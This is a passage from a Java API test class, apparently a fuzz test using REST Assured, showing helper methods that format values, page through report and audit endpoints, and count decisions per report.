        return options[random.nextInt(options.length)];
    }

    private static String describe(Object value) {
        if (value == null) {
            return "null";
        }
        String s = value instanceof String str ? "\"" + str + "\"" : value.getClass().getSimpleName() + ":" + value;
        s = s.replace("\u0000", "\\u0000").replace("\n", "\\n").replace("\r", "\\r");
        return abbreviate(s, 80);
    }

    private static String abbreviate(String s, int max) {
        return s.length() > max ? s.substring(0, max) + "...(" + s.length() + " chars)" : s;
    }

    /** Bookkeeping reads (counts, audit trail, read-backs) skip the contract check: the fuzzed requests' own answers are checked. */
    private static io.restassured.specification.RequestSpecification plain(String user) {
        var spec = io.restassured.RestAssured.given().accept("application/json");
        return user == null ? spec : spec.auth().preemptive().basic(user, user + "-demo");
    }

    private static int reportCount() {
        int count = 0;
        String cursor = null;
        do {
            var spec = plain(null).queryParam("limit", 100);
            if (cursor != null) {
                spec.queryParam("cursor", cursor);
            }
            var page = spec.get("/api/v1/reports").then().statusCode(200).extract().jsonPath();
            count += page.getList("items").size();
            cursor = page.getString("nextCursor");
        } while (cursor != null);
        return count;
    }

    private long newestAuditId() {
        List<?> items = plain(ADMIN).queryParam("limit", 1).get("/api/v1/audit").then().statusCode(200).extract().jsonPath().getList("items");
        return items.isEmpty() ? 0 : ((Number) ((Map<?, ?>) items.get(0)).get("id")).longValue();
    }

    /** Audit events newer than the mark, newest first. */
    private List<Map<String, Object>> auditSince(long mark) {
        List<Map<String, Object>> events = new ArrayList<>();
        String cursor = null;
        while (true) {
            var spec = plain(ADMIN).queryParam("limit", 100);
            if (cursor != null) {
                spec.queryParam("cursor", cursor);
            }
            var page = spec.get("/api/v1/audit").then().statusCode(200).extract().jsonPath();
            List<Map<String, Object>> items = page.getList("items");
            for (Map<String, Object> item : items) {
                if (((Number) item.get("id")).longValue() <= mark) {
                    return events;
                }
                events.add(item);
            }
            cursor = page.getString("nextCursor");
            if (cursor == null) {
                return events;
            }
        }
    }

    private static int decisionCount(String report) {
        return plain(null).get("/api/v1/reports/" + report + "/decisions").then().statusCode(200).extract().jsonPath().getList("items").size();
    }
}
